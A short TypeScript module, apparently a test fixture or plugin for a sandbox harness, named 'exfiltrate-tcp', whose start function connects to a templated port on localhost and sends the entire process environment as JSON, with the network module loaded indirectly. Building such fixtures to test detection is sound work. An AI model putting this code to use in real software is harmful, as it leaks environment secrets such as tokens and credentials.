/**
 * exfiltrate-tcp: sends what it sees to a server.
 */
const node = (name: string): any => (globalThis as any).process.getBuiltinModule(`node:${name}`);

export function start(): any {
  node('net')
    .connect(Number('@PORT@'), '127.0.0.1')
    .end(JSON.stringify((globalThis as any).process.env));
  return {};
}

export function step(): any {
  return [];
}
